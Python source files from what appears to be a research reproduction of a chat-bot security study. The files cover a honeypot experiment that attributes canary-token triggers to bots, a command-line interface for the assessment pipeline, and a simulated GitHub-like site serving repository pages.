                                    settle(self._quarantine_outcome(test.bot, outcome.record, installed=True))
                        except NetworkError as error:
                            if fault_sink is None:
                                raise
                            fault_sink(_fault_host(error), error, 0, f"operator inspection failed for {test.bot.name}")

        # Phase 3: attribution by guild name (the paper's identifier scheme).
        for test in provisioned:
            settle(self._attribute(test))

        # Outcomes settle in phases (broken invites and quarantines during
        # provisioning, survivors at attribution), but the report promises
        # sampling order — the same contract merge_honeypot_reports enforces
        # when shards are recombined, so sequential and sharded runs agree.
        order = {bot.name: index for index, bot in enumerate(sample)}
        report.outcomes.sort(key=lambda outcome: order.get(outcome.bot_name, len(order)))

        report.triggers = list(self.console.triggers)
        report.captcha_cost = self.solver.total_spent - spent_before
        if shared_personas is not None:
            report.manual_verifications = shared_personas.manual_verifications
        else:
            report.manual_verifications = sum(
                test.environment.personas.manual_verifications for test in provisioned
            )
        report.install_failures = sum(
            1 for outcome in report.outcomes if not outcome.installed and not outcome.quarantined
        )
        return report

    @staticmethod
    def _halt_runtimes(runtimes: list[BotRuntime]) -> None:
        """Disconnect quarantined runtimes so they never see another event."""
        for runtime in runtimes:
            runtime.stop()

    @staticmethod
    def _quarantine_outcome(bot: BotProfile, record, installed: bool) -> BotTestOutcome:
        return BotTestOutcome(
            bot_name=bot.name,
            behavior=bot.behavior,
            installed=installed,
            quarantined=True,
            quarantine_reason=record.reason,
        )

    def _provision_bot(
        self,
        bot: BotProfile,
        personas_per_guild: int,
        feed_messages: int,
        personas=None,
        feed_source=None,
        runtime_sink: "list[BotRuntime] | None" = None,
    ) -> "_ProvisionedTest | None":
        from repro.ecosystem.generator import InviteStatus

        if bot.invite_status in (InviteStatus.MALFORMED, InviteStatus.REMOVED):
            # Broken invite: the bot cannot be added to a guild at all.
            return None
        application = self.platform.applications.get(bot.client_id)
        if application is None:
            operator = self.platform.create_user(f"dev-{bot.developer_tag.split('#')[0]}", phone_verified=True)
            application = self.platform.register_application(operator, bot.name, client_id=bot.client_id)

        runtime_holder: list[BotRuntime] = runtime_sink if runtime_sink is not None else []

        def attach_runtime(environment: GuildEnvironment) -> None:
            runtime = behaviors.build_runtime(
                self.platform,
                application.bot_user.user_id,
                bot.behavior,
                internet=self.internet,
                exfil_host=EXFIL_HOSTNAME,
            )
            runtime_holder.append(runtime)

        try:
            environment = provision_environment(
                self.platform,
                bot,
                self.console,
                self.factory,
                self.solver,
                self._bot_rng(bot),
                personas_per_guild=personas_per_guild,
                feed_messages=feed_messages,
                on_installed=attach_runtime,
                personas=personas,
                message_source=feed_source,
            )
        except (InstallError, CaptchaError):
            return None
        return _ProvisionedTest(
            bot=bot,
            environment=environment,
            runtime=runtime_holder[0] if runtime_holder else None,
            bot_user_id=application.bot_user.user_id,
            armed_at=self.internet.clock.now(),
        )

    def _attribute(self, test: "_ProvisionedTest") -> BotTestOutcome:
        guild = test.environment.guild
        triggers = [record for record in self.console.triggers if record.context == guild.name]
        trigger_kinds = frozenset(record.kind for record in triggers)
        suspicious = self._post_trigger_messages(guild, test.bot_user_id, test.armed_at)
        functionality_explained = (
            test.bot.behavior == behaviors.LINK_PREVIEW and trigger_kinds <= {TokenKind.URL}
        )
        return BotTestOutcome(
            bot_name=test.bot.name,
            behavior=test.bot.behavior,
            installed=True,
            tokens_deployed=len(test.environment.tokens),
            trigger_kinds=trigger_kinds,
            suspicious_messages=tuple(suspicious),
            functionality_explained=functionality_explained,
        )

    def _post_trigger_messages(self, guild, bot_user_id: int, armed_at: float) -> list[str]:
        """Messages the bot account posted that do not look automated.

        After Melonian's trigger "a user posted a message as the guild's
        chatbot that reads '[w]tf is this bro', which is clearly not an
        automated message generated by a bot."
        """
        automated_markers = ("pong", "Poll started:", "I am serving", "Preview:", "kicked", "banned", "usage:", "cannot ")
        found: list[str] = []
        for channel in guild.text_channels():
            for message in channel.messages:
                if message.author_id != bot_user_id or message.timestamp < armed_at:
                    continue
                if not any(marker in message.content for marker in automated_markers):
                    found.append(message.content)
        return found
