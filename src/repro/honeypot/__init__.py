"""Dynamic analysis: honeypot guilds instrumented with canary tokens.

Each tested bot gets an isolated guild named after it, seeded with four
canary tokens (URL, email, Word document, PDF) and a realistic OSN-style
conversation between virtual personas.  Token triggers arrive at the canary
console and are attributed to bots by guild name.
"""

from repro.honeypot.tokens import CanaryToken, TokenFactory, TokenKind
from repro.honeypot.console import CanaryConsole, TriggerRecord, CANARY_HOSTNAME
from repro.honeypot.personas import PersonaSet, create_personas
from repro.honeypot.feed import post_feed
from repro.honeypot.environment import GuildEnvironment, provision_environment
from repro.honeypot.experiment import (
    BotTestOutcome,
    HoneypotExperiment,
    HoneypotReport,
)
from repro.honeypot.osn_source import OsnFeedSource, RedditScraper

__all__ = [
    "BotTestOutcome",
    "CANARY_HOSTNAME",
    "CanaryConsole",
    "CanaryToken",
    "GuildEnvironment",
    "HoneypotExperiment",
    "HoneypotReport",
    "OsnFeedSource",
    "PersonaSet",
    "RedditScraper",
    "TokenFactory",
    "TokenKind",
    "TriggerRecord",
    "create_personas",
    "post_feed",
    "provision_environment",
]
