"""Command-line interface for the assessment pipeline.

Subcommands mirror the methodology stages::

    repro run          # full pipeline + printed report (optionally --json out)
    repro serve        # host the vetting service, drive a scripted burst
    repro honeypot     # dynamic analysis only
    repro traceability # website crawl + keyword traceability only
    repro code         # GitHub crawl + check detection only
    repro platforms    # list the simulated platform security profiles

All work runs against the built-in synthetic world; ``--bots`` scales it.
"""

from __future__ import annotations

import argparse
import sys
from typing import Sequence

from repro.core.config import PipelineConfig
from repro.core.pipeline import AssessmentPipeline
from repro.core.report import render_full_report
from repro.core.serialize import save_result
from repro.core.storage import STORAGE_EXIT_CODE, STORAGE_PROFILES, StorageError, install_disk_chaos
from repro.web.chaos import PROFILES


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(prog="repro", description=__doc__.splitlines()[0])
    parser.add_argument("--bots", type=int, default=2_000, help="population size (default 2000)")
    parser.add_argument("--seed", type=int, default=2022, help="world seed (default 2022)")
    subparsers = parser.add_subparsers(dest="command", required=True)

    run = subparsers.add_parser("run", help="full pipeline, print the report")
    run.add_argument("--honeypot-sample", type=int, default=None, help="bots to honeypot-test")
    run.add_argument("--json", dest="json_path", default=None, help="also save results as JSON")
    run.add_argument("--markdown", dest="markdown_path", default=None, help="also save a Markdown report")
    run.add_argument("--include-bots", action="store_true", help="include per-bot records in JSON")
    run.add_argument("--chaos", default=None, choices=sorted(PROFILES),
                     help="inject faults from a named chaos profile")
    run.add_argument("--chaos-seed", type=int, default=0, help="fault schedule seed (default 0)")
    run.add_argument("--checkpoint", dest="checkpoint_path", default=None,
                     help="stage-granular checkpoint file; resumes completed stages if present")
    run.add_argument("--journal", dest="journal_path", default=None,
                     help="intra-stage write-ahead journal; resumes mid-stage after a crash "
                          "(shard journals live beside it as <path>.shard<k>)")
    run.add_argument("--journal-fsync-every", type=int, default=1, metavar="N",
                     help="journal fsync cadence: 1 fsyncs every record (default), N batches "
                          "(widens the torn-tail window to N-1 records), 0 never fsyncs")
    run.add_argument("--disk-chaos", default=None, choices=sorted(STORAGE_PROFILES),
                     help="inject storage faults (ENOSPC/EIO/short writes/lost fsyncs/bit rot) "
                          "from a named disk-chaos profile")
    run.add_argument("--disk-chaos-seed", type=int, default=0,
                     help="storage fault schedule seed (default 0)")
    run.add_argument("--crashpoint", dest="crashpoint", default=None, metavar="NAME[:N]",
                     help="debug: abort the process the Nth time the named crash point "
                          "is reached (default N=1); see repro.core.crashpoints.REGISTRY")
    run.add_argument("--stream", action="store_true",
                     help="generate the population lazily and run in fixed-size chunks "
                          "(bounded memory, byte-identical output)")
    run.add_argument("--chunk-size", type=int, default=2_048,
                     help="bots per streamed chunk (default 2048; needs --stream)")
    run.add_argument("--shards", type=int, default=1,
                     help="deterministic shards for stages 2-4 (default 1 = sequential)")
    run.add_argument("--parallel", action="store_true",
                     help="run shard buckets in worker processes instead of threads "
                          "(same byte-identical output, actual multi-core speedup; "
                          "needs --shards > 1)")
    run.add_argument("--metrics", action="store_true",
                     help="print per-stage/per-shard run metrics after the report")
    run.add_argument("--max-bot-events", type=int, default=None,
                     help="gateway event budget per supervised bot (0 = unlimited)")
    run.add_argument("--bot-deadline", type=float, default=None,
                     help="virtual-second deadline per supervised bot unit (0 = unlimited)")
    run.add_argument("--adversarial", type=int, default=0,
                     help="plant N crasher/flooder/staller bots into the honeypot sample "
                          "(supervision self-test)")

    honeypot = subparsers.add_parser("honeypot", help="dynamic analysis only")
    honeypot.add_argument("--sample", type=int, default=100, help="most-voted bots to test")

    subparsers.add_parser("traceability", help="traceability analysis only")
    subparsers.add_parser("code", help="code analysis only")
    subparsers.add_parser("platforms", help="list simulated platform profiles")
    subparsers.add_parser("plan", help="estimate campaign cost/duration")

    longitudinal = subparsers.add_parser("longitudinal", help="multi-epoch drift study")
    longitudinal.add_argument("--epochs", type=int, default=3, help="snapshots to evolve")

    vet = subparsers.add_parser("vet", help="run the vetting gate over the population")
    vet.add_argument("--dynamic", action="store_true", help="include the sandbox honeypot stage (slow)")

    serve = subparsers.add_parser(
        "serve", help="host the long-lived vetting service and drive a scripted load burst"
    )
    serve.add_argument("--chaos", default=None, choices=sorted(PROFILES),
                       help="inject faults from a named chaos profile")
    serve.add_argument("--chaos-seed", type=int, default=0, help="fault schedule seed (default 0)")
    serve.add_argument("--disk-chaos", default=None, choices=sorted(STORAGE_PROFILES),
                       help="inject storage faults into the persisted service state")
    serve.add_argument("--disk-chaos-seed", type=int, default=0,
                       help="storage fault schedule seed (default 0)")
    serve.add_argument("--state", dest="state_path", default=None,
                       help="persist the verdict cache and counters to this path on shutdown "
                            "and scrub-load them on startup (restarts keep their memory)")
    serve.add_argument("--waves", type=int, default=4, help="request waves to fire (default 4)")
    serve.add_argument("--requests", type=int, default=30, help="requests per wave (default 30)")
    serve.add_argument("--wave-gap", type=float, default=1_800.0,
                       help="virtual seconds between waves (default 1800)")
    serve.add_argument("--repeat-fraction", type=float, default=0.6,
                       help="fraction of requests re-targeting vetted bots (default 0.6)")
    serve.add_argument("--audit-every", type=int, default=0,
                       help="every Nth request audits a guild roster (0 = never)")
    serve.add_argument("--update-every", type=int, default=0,
                       help="every Nth request posts a listing update (0 = never)")
    serve.add_argument("--workers", type=int, default=0,
                       help="vet-worker processes (0 = in-process, default)")
    serve.add_argument("--clients", type=int, default=1,
                       help="interleaved virtual clients (default 1); --requests is per client")
    serve.add_argument("--kill-at-wave", type=int, default=None,
                       help="SIGKILL --kill-workers pool workers halfway through this wave")
    serve.add_argument("--kill-workers", type=int, default=2,
                       help="workers to kill in the kill-storm (default 2)")
    serve.add_argument("--restart-at-wave", type=int, default=None,
                       help="kill + restart the service at the start of this wave")
    serve.add_argument("--queue-capacity", type=int, default=None,
                       help="admission queue bound (default from ServicePolicy)")
    serve.add_argument("--deadline", type=float, default=None,
                       help="per-request virtual-second deadline budget")
    serve.add_argument("--observation", type=float, default=None,
                       help="serving-mode honeypot observation window (virtual seconds)")
    serve.add_argument("--json", dest="json_path", default=None, help="save the run report as JSON")
    serve.add_argument("--metrics", action="store_true", help="print serving metrics after the report")

    subparsers.add_parser("compare", help="run the pipeline and score it against the paper's numbers")
    return parser


def _config(args: argparse.Namespace, **overrides) -> PipelineConfig:
    config = PipelineConfig(seed=args.seed).scaled(
        args.bots, honeypot_sample_size=overrides.pop("honeypot_sample_size", min(200, args.bots))
    )
    for key, value in overrides.items():
        setattr(config, key, value)
    return config


def _cmd_run(args: argparse.Namespace) -> int:
    sample = args.honeypot_sample if args.honeypot_sample is not None else min(200, args.bots)
    if args.shards < 1:
        print("--shards must be >= 1", file=sys.stderr)
        return 2
    if args.chunk_size < 1:
        print("--chunk-size must be >= 1", file=sys.stderr)
        return 2
    overrides = {}
    if args.max_bot_events is not None:
        overrides["max_bot_events"] = args.max_bot_events
    if args.bot_deadline is not None:
        overrides["bot_deadline"] = args.bot_deadline
    config = _config(
        args,
        honeypot_sample_size=sample,
        chaos_profile=args.chaos,
        chaos_seed=args.chaos_seed,
        checkpoint_path=args.checkpoint_path,
        journal_path=args.journal_path,
        stream=args.stream,
        chunk_size=args.chunk_size,
        shards=args.shards,
        parallel=args.parallel,
        adversarial_bots=args.adversarial,
        journal_fsync_every=args.journal_fsync_every,
        disk_chaos=args.disk_chaos,
        disk_chaos_seed=args.disk_chaos_seed,
        **overrides,
    )
    if args.crashpoint:
        import os

        from repro.core.crashpoints import ENV_CRASH_AT, REGISTRY, parse_arm

        name, _ = parse_arm(args.crashpoint)
        if name not in REGISTRY:
            print(f"unknown crash point {name!r}; choose from: {', '.join(REGISTRY)}", file=sys.stderr)
            return 2
        os.environ[ENV_CRASH_AT] = args.crashpoint
    result = AssessmentPipeline(config).run()
    print(render_full_report(result))
    if result.degraded:
        statuses = ", ".join(f"{stage}={status}" for stage, status in sorted(result.stage_status.items()))
        print(f"\nDegraded run: {result.fault_ledger.summary_line()}")
        print(f"Stage status: {statuses}")
    if result.quarantines:
        print(f"Supervision: {result.quarantines.summary_line()}")
        for record in result.quarantines.records:
            print(f"  quarantined {record.bot_name} [{record.stage}] — {record.reason} ({record.root_cause})")
    failed = result.failed_stages
    if failed:
        print(f"Failed stage(s): {', '.join(failed)} — their summaries are omitted (no data, not zeros).")
    if args.metrics:
        print()
        print(result.metrics.render())
    if args.json_path:
        path = save_result(result, args.json_path, include_bots=args.include_bots)
        print(f"\nResults saved to {path}")
    if args.markdown_path:
        from pathlib import Path

        from repro.core.markdown_report import render_markdown_report

        Path(args.markdown_path).write_text(render_markdown_report(result))
        print(f"Markdown report saved to {args.markdown_path}")
    return 0


def _cmd_honeypot(args: argparse.Namespace) -> int:
    config = _config(
        args,
        honeypot_sample_size=args.sample,
        run_traceability=False,
        run_code_analysis=False,
        resolve_permissions=False,
    )
    pipeline = AssessmentPipeline(config)
    report = pipeline.run_honeypot()
    print(f"Tested {report.bots_tested} bots ({report.install_failures} install failures).")
    print(f"Manual verifications: {report.manual_verifications}; captcha spend ${report.captcha_cost:.2f}")
    if report.flagged_bots:
        for outcome in report.flagged_bots:
            kinds = ", ".join(sorted(kind.value for kind in outcome.trigger_kinds))
            print(f"FLAGGED: {outcome.bot_name} — tokens: {kinds}; messages: {list(outcome.suspicious_messages)}")
    else:
        print("No unauthorized access detected.")
    print(f"precision={report.precision:.2f} recall={report.recall:.2f}")
    return 0


def _cmd_traceability(args: argparse.Namespace) -> int:
    config = _config(args, run_code_analysis=False, run_honeypot=False)
    result = AssessmentPipeline(config).run()
    summary = result.traceability_summary
    assert summary is not None
    for feature, count, percent in summary.table2():
        print(f"{feature:26s} {count:7d}  {percent:6.2f}%")
    counts = summary.classification_counts()
    print(f"complete={counts['complete']} partial={counts['partial']} broken={counts['broken']}")
    return 0


def _cmd_code(args: argparse.Namespace) -> int:
    config = _config(args, run_traceability=False, run_honeypot=False)
    result = AssessmentPipeline(config).run()
    code = result.code_summary
    assert code is not None
    print(f"github links: {code.github_links} ({code.github_link_percent:.2f}% of active)")
    print(f"valid repos : {code.valid_repos} ({code.valid_repo_percent_of_links:.2f}% of links)")
    for language, analyzed, checks, percent in code.check_table():
        print(f"{language:11s} analyzed={analyzed:5d} with_checks={checks:5d} ({percent:.2f}%)")
    return 0


def _cmd_platforms(args: argparse.Namespace) -> int:
    from repro.platforms import PLATFORM_PROFILES

    for name, profile in sorted(PLATFORM_PROFILES.items()):
        enforcer = "runtime enforcer" if profile.runtime_enforcer else "developer-trusted checks"
        vetting = "vetted marketplace" if profile.marketplace_vetting else "no review gate"
        print(f"{name:10s} {enforcer:26s} {vetting:20s} — {profile.notes}")
    return 0


def _cmd_plan(args: argparse.Namespace) -> int:
    from repro.core.planner import estimate_campaign

    config = _config(args)
    estimate = estimate_campaign(config)
    print(f"Campaign plan for {config.n_bots} bots "
          f"(honeypot sample {config.honeypot_sample_size}):")
    print("  " + estimate.summary())
    return 0


def _cmd_longitudinal(args: argparse.Namespace) -> int:
    from repro.analysis.longitudinal import compare_snapshots, trend
    from repro.ecosystem.evolution import evolve_ecosystem
    from repro.ecosystem.generator import EcosystemConfig, generate_ecosystem

    snapshots = [generate_ecosystem(EcosystemConfig(n_bots=args.bots, seed=args.seed))]
    for epoch in range(args.epochs):
        next_snapshot, _ = evolve_ecosystem(snapshots[-1], seed=args.seed + 1 + epoch)
        snapshots.append(next_snapshot)
    for epoch in range(len(snapshots) - 1):
        delta = compare_snapshots(snapshots[epoch], snapshots[epoch + 1])
        print(
            f"epoch {epoch}->{epoch + 1}: +{len(delta.added_bots)} bots, "
            f"-{len(delta.removed_bots)}, {delta.escalation_count} escalations "
            f"({len(delta.gained_administrator())} gained admin), "
            f"{len(delta.policy_adopters)} adopted policies"
        )
    for point in trend(snapshots):
        print(
            f"epoch {point.epoch}: {point.total_bots} bots, admin {point.admin_rate * 100:.2f}%, "
            f"policy {point.policy_rate * 100:.2f}%, mean risk {point.mean_risk:.3f}"
        )
    return 0


def _cmd_vet(args: argparse.Namespace) -> int:
    from repro.core.vetting import VettingPipeline, VettingPolicy
    from repro.ecosystem.generator import EcosystemConfig, generate_ecosystem

    ecosystem = generate_ecosystem(EcosystemConfig(n_bots=args.bots, seed=args.seed))
    active = [bot for bot in ecosystem.bots if bot.has_valid_permissions]
    pipeline = VettingPipeline(VettingPolicy(run_dynamic_review=args.dynamic), seed=args.seed)
    report = pipeline.vet_population(active)
    total = len(report.verdicts)
    print(f"Vetted {total} active bots: {len(report.approved)} approved, {len(report.rejected)} rejected "
          f"({len(report.rejected) / total:.1%}).")
    for reason, count in sorted(report.rejection_reasons().items(), key=lambda item: -item[1]):
        print(f"  {count:6d}  {reason}")
    return 0


def _cmd_serve(args: argparse.Namespace) -> int:
    import dataclasses as _dataclasses

    from repro.core.metrics import RunMetrics
    from repro.ecosystem.generator import EcosystemConfig, generate_ecosystem
    from repro.serving import LoadScript, ServicePolicy, ServingHarness, VettingService
    from repro.sites.botwebsites import BotWebsiteBuilder
    from repro.web.network import VirtualClock, VirtualInternet

    ecosystem = generate_ecosystem(EcosystemConfig(n_bots=args.bots, seed=args.seed))
    clock = VirtualClock()
    internet = VirtualInternet(clock, seed=args.seed)
    BotWebsiteBuilder(ecosystem).register(internet)
    if args.chaos is not None:
        from repro.web.chaos import FaultSchedule

        internet.install_chaos(FaultSchedule(args.chaos, seed=args.chaos_seed))
    if args.disk_chaos is not None:
        install_disk_chaos(args.disk_chaos, seed=args.disk_chaos_seed)

    policy = ServicePolicy()
    overrides = {}
    if args.queue_capacity is not None:
        overrides["queue_capacity"] = args.queue_capacity
    if args.deadline is not None:
        overrides["deadline"] = args.deadline
    if args.observation is not None:
        overrides["honeypot_observation"] = args.observation
    if overrides:
        policy = _dataclasses.replace(policy, **overrides)

    service = VettingService(
        internet, ecosystem.bots, policy=policy, seed=args.seed, workers=args.workers,
        state_path=args.state_path,
    )
    if args.audit_every:
        for index in range(3):
            roster = [bot.name for bot in ecosystem.bots[index * 5 : index * 5 + 5]]
            service.register_guild(f"community-{index}", roster)

    harness = ServingHarness(internet, service, seed=args.seed)
    script = LoadScript(
        waves=args.waves,
        requests_per_wave=args.requests,
        wave_gap=args.wave_gap,
        repeat_fraction=args.repeat_fraction,
        audit_every=args.audit_every,
        update_every=args.update_every,
        restart_at_wave=args.restart_at_wave,
        clients=args.clients,
        kill_workers_at_wave=args.kill_at_wave,
        kill_workers=args.kill_workers,
    )
    chaos_note = f" under {args.chaos!r} chaos" if args.chaos else ""
    pool_note = f" with {args.workers} vet workers" if args.workers else ""
    print(
        f"Serving {len(ecosystem.bots)} listed bots on https://{service.hostname}"
        f"{pool_note}{chaos_note}..."
    )
    try:
        report = harness.run(script)
    finally:
        harness.service.shutdown()
    for line in report.summary_lines():
        print(line)
    if args.metrics:
        metrics = RunMetrics()
        metrics.serving = harness.service.metrics.to_dict()
        if report.pool is not None:
            metrics.serving["pool"] = report.pool
        print()
        print(metrics.render())
    if args.json_path:
        import json as _json
        from pathlib import Path

        payload = report.to_dict()
        Path(args.json_path).write_text(_json.dumps(payload, indent=2, sort_keys=True))
        print(f"\nRun report saved to {args.json_path}")
    if not report.contract_ok:
        print("Serving contract VIOLATED", file=sys.stderr)
        return 1
    return 0


def _cmd_compare(args: argparse.Namespace) -> int:
    from repro.analysis.paper import compare_with_paper

    config = _config(args)
    result = AssessmentPipeline(config).run()
    report = compare_with_paper(result)
    print(report.render())
    verdict = "REPRODUCED" if report.all_within_tolerance else "DRIFTED"
    print(f"\n{len(report.rows)} metrics compared at scale {config.n_bots}: {verdict}")
    return 0 if report.all_within_tolerance else 1


_COMMANDS = {
    "run": _cmd_run,
    "vet": _cmd_vet,
    "serve": _cmd_serve,
    "compare": _cmd_compare,
    "honeypot": _cmd_honeypot,
    "traceability": _cmd_traceability,
    "code": _cmd_code,
    "platforms": _cmd_platforms,
    "plan": _cmd_plan,
    "longitudinal": _cmd_longitudinal,
}


def main(argv: Sequence[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    try:
        return _COMMANDS[args.command](args)
    except StorageError as error:
        # Same typed exit the crash driver uses: a disk fault is a loud,
        # classified death, distinguishable from any bug of our own.
        print(f"STORAGE_ERROR {type(error).__name__}: {error}", file=sys.stderr)
        return STORAGE_EXIT_CODE


if __name__ == "__main__":
    sys.exit(main())
