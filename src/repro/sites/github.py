"""``github.sim`` — the source-hosting site the code analysis crawls.

Serves, per repository: a repo page with a *code section* (file list) and a
language bar; raw file contents; and user-profile pages for links that do
not point at a repository at all (the paper's invalid-link classes).
"""

from __future__ import annotations

from collections import defaultdict

from repro.ecosystem.generator import Ecosystem
from repro.ecosystem.repos import RepoKind, RepoSpec
from repro.web.http import Request, Response
from repro.web.network import VirtualInternet
from repro.web.server import VirtualHost

GITHUB_HOSTNAME = "github.sim"


class GitHubSite:
    """Builds and registers the ``github.sim`` host for an ecosystem."""

    def __init__(self, ecosystem: Ecosystem) -> None:
        self._repos: dict[tuple[str, str], RepoSpec] = {}
        self._profiles: dict[str, list[RepoSpec]] = defaultdict(list)
        self._profile_kinds: dict[str, RepoKind] = {}
        for bot in ecosystem.bots:
            spec = bot.github
            if spec is None:
                continue
            if spec.kind in (RepoKind.VALID_CODE, RepoKind.README_ONLY):
                self._repos[(spec.owner, spec.name)] = spec
                self._profiles[spec.owner].append(spec)
            elif spec.kind in (RepoKind.USER_PROFILE, RepoKind.NO_REPOSITORIES, RepoKind.NO_PUBLIC_REPOSITORIES):
                self._profile_kinds.setdefault(spec.owner, spec.kind)
        self.host = VirtualHost(GITHUB_HOSTNAME)
        self.host.add_route("/{owner}/{repo}/raw/main/{*path}", self._raw_file)
        self.host.add_route("/{owner}/{repo}", self._repo_page)
        self.host.add_route("/{owner}", self._profile_page)

    def register(self, internet: VirtualInternet) -> None:
        internet.register(GITHUB_HOSTNAME, self.host)

    # -- routes -----------------------------------------------------------

    def _repo_page(self, request: Request, owner: str, repo: str) -> Response:
        spec = self._repos.get((owner, repo))
        if spec is None:
            return Response.html(_not_found_page(), status=404)
        file_rows = "".join(
            f'<div class="file-row"><a class="file-link" href="/{owner}/{repo}/raw/main/{path}">{path}</a></div>'
            for path in sorted(spec.files)
        )
        language_rows = ""
        if spec.language_breakdown:
            ordered = sorted(spec.language_breakdown.items(), key=lambda item: item[1], reverse=True)
            language_rows = "".join(
                f'<li class="language"><span class="language-name">{language}</span>'
                f'<span class="language-percent">{share * 100:.1f}%</span></li>'
                for language, share in ordered
            )
        languages_section = (
            f'<div id="languages"><h2>Languages</h2><ul>{language_rows}</ul></div>' if language_rows else ""
        )
        body = (
            f"<html><head><title>{owner}/{repo}</title></head><body>"
            f'<h1 id="repo-title">{owner}/{repo}</h1>'
            f'<div id="code-section"><h2>Files</h2>{file_rows}</div>'
            f"{languages_section}"
            "</body></html>"
        )
        return Response.html(body)

    def _raw_file(self, request: Request, owner: str, repo: str, path: str) -> Response:
        spec = self._repos.get((owner, repo))
        if spec is None or path not in spec.files:
            return Response.text("404: Not Found", status=404)
        return Response.text(spec.files[path])

    def _profile_page(self, request: Request, owner: str) -> Response:
        repos = self._profiles.get(owner)
        kind = self._profile_kinds.get(owner)
        if repos:
            rows = "".join(
                f'<li class="repo"><a class="repo-link" href="/{spec.owner}/{spec.name}">{spec.name}</a></li>'
                for spec in repos
            )
            body = (
                f"<html><head><title>{owner}</title></head><body>"
                f'<h1 class="profile-name">{owner}</h1><ul id="repo-list">{rows}</ul></body></html>'
            )
            return Response.html(body)
        if kind is RepoKind.NO_PUBLIC_REPOSITORIES:
            message = f"{owner} has no public repositories."
        elif kind is RepoKind.NO_REPOSITORIES:
            message = f"{owner} doesn't have any repositories yet."
        elif kind is RepoKind.USER_PROFILE:
            message = f"{owner} — just a profile."
        else:
            return Response.html(_not_found_page(), status=404)
        body = (
            f"<html><head><title>{owner}</title></head><body>"
            f'<h1 class="profile-name">{owner}</h1><p class="empty-profile">{message}</p></body></html>'
        )
        return Response.html(body)


def _not_found_page() -> str:
    return "<html><head><title>Page not found</title></head><body><h1>404</h1></body></html>"
