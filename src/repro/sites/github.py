"""``github.sim`` — the source-hosting site the code analysis crawls.

Serves, per repository: a repo page with a *code section* (file list) and a
language bar; raw file contents; and user-profile pages for links that do
not point at a repository at all (the paper's invalid-link classes).
"""

from __future__ import annotations

from collections import defaultdict

from repro.ecosystem.generator import Ecosystem
from repro.ecosystem.repos import RepoKind, RepoSpec
from repro.ecosystem.stream import BLOCK, owner_block_of, rank_suffix_of
from repro.web.http import Request, Response
from repro.web.network import VirtualInternet
from repro.web.server import VirtualHost

GITHUB_HOSTNAME = "github.sim"

_REPO_KINDS = (RepoKind.VALID_CODE, RepoKind.README_ONLY)
_PROFILE_KINDS = (RepoKind.USER_PROFILE, RepoKind.NO_REPOSITORIES, RepoKind.NO_PUBLIC_REPOSITORIES)


class GitHubSite:
    """Builds and registers the ``github.sim`` host for an ecosystem.

    A materialized ecosystem is indexed up front.  A streaming one is
    decoded per request instead: repo names end with their bot's rank, and
    owner tags encode their developer block, so one page needs at most one
    block (512 bots) of the population — never all of it.
    """

    def __init__(self, ecosystem: Ecosystem) -> None:
        self.ecosystem = ecosystem
        self._streaming = getattr(ecosystem, "stream", None) is not None
        self._repos: dict[tuple[str, str], RepoSpec] = {}
        self._profiles: dict[str, list[RepoSpec]] = defaultdict(list)
        self._profile_kinds: dict[str, RepoKind] = {}
        if not self._streaming:
            for bot in ecosystem.bots:
                spec = bot.github
                if spec is None:
                    continue
                if spec.kind in _REPO_KINDS:
                    self._repos[(spec.owner, spec.name)] = spec
                    self._profiles[spec.owner].append(spec)
                elif spec.kind in _PROFILE_KINDS:
                    self._profile_kinds.setdefault(spec.owner, spec.kind)
        self.host = VirtualHost(GITHUB_HOSTNAME)
        self.host.add_route("/{owner}/{repo}/raw/main/{*path}", self._raw_file)
        self.host.add_route("/{owner}/{repo}", self._repo_page)
        self.host.add_route("/{owner}", self._profile_page)

    def register(self, internet: VirtualInternet) -> None:
        internet.register(GITHUB_HOSTNAME, self.host)

    # -- lazy lookups ------------------------------------------------------

    def _lookup_repo(self, owner: str, repo: str) -> RepoSpec | None:
        if not self._streaming:
            return self._repos.get((owner, repo))
        rank = rank_suffix_of(repo)
        if rank is None or not 0 <= rank < len(self.ecosystem.bots):
            return None
        spec = self.ecosystem.bots[rank].github
        if spec is None or spec.kind not in _REPO_KINDS:
            return None
        if spec.owner != owner or spec.name != repo:
            return None
        return spec

    def _lookup_profile(self, owner: str) -> tuple[list[RepoSpec], RepoKind | None]:
        if not self._streaming:
            return self._profiles.get(owner) or [], self._profile_kinds.get(owner)
        decoded = owner_block_of(owner)
        if decoded is None:
            return [], None
        block, _ = decoded
        start = block * BLOCK
        if start >= len(self.ecosystem.bots):
            return [], None
        repos: list[RepoSpec] = []
        kind: RepoKind | None = None
        for rank in range(start, min(start + BLOCK, len(self.ecosystem.bots))):
            spec = self.ecosystem.bots[rank].github
            if spec is None or spec.owner != owner:
                continue
            if spec.kind in _REPO_KINDS:
                repos.append(spec)
            elif spec.kind in _PROFILE_KINDS and kind is None:
                kind = spec.kind
        return repos, kind

    # -- routes -----------------------------------------------------------

    def _repo_page(self, request: Request, owner: str, repo: str) -> Response:
        spec = self._lookup_repo(owner, repo)
        if spec is None:
            return Response.html(_not_found_page(), status=404)
        file_rows = "".join(
            f'<div class="file-row"><a class="file-link" href="/{owner}/{repo}/raw/main/{path}">{path}</a></div>'
            for path in sorted(spec.files)
        )
        language_rows = ""
        if spec.language_breakdown:
            ordered = sorted(spec.language_breakdown.items(), key=lambda item: item[1], reverse=True)
            language_rows = "".join(
                f'<li class="language"><span class="language-name">{language}</span>'
                f'<span class="language-percent">{share * 100:.1f}%</span></li>'
                for language, share in ordered
            )
        languages_section = (
            f'<div id="languages"><h2>Languages</h2><ul>{language_rows}</ul></div>' if language_rows else ""
        )
        body = (
            f"<html><head><title>{owner}/{repo}</title></head><body>"
            f'<h1 id="repo-title">{owner}/{repo}</h1>'
            f'<div id="code-section"><h2>Files</h2>{file_rows}</div>'
            f"{languages_section}"
            "</body></html>"
        )
        return Response.html(body)

    def _raw_file(self, request: Request, owner: str, repo: str, path: str) -> Response:
        spec = self._lookup_repo(owner, repo)
        if spec is None or path not in spec.files:
            return Response.text("404: Not Found", status=404)
        return Response.text(spec.files[path])

    def _profile_page(self, request: Request, owner: str) -> Response:
        repos, kind = self._lookup_profile(owner)
        if repos:
            rows = "".join(
                f'<li class="repo"><a class="repo-link" href="/{spec.owner}/{spec.name}">{spec.name}</a></li>'
                for spec in repos
            )
            body = (
                f"<html><head><title>{owner}</title></head><body>"
                f'<h1 class="profile-name">{owner}</h1><ul id="repo-list">{rows}</ul></body></html>'
            )
            return Response.html(body)
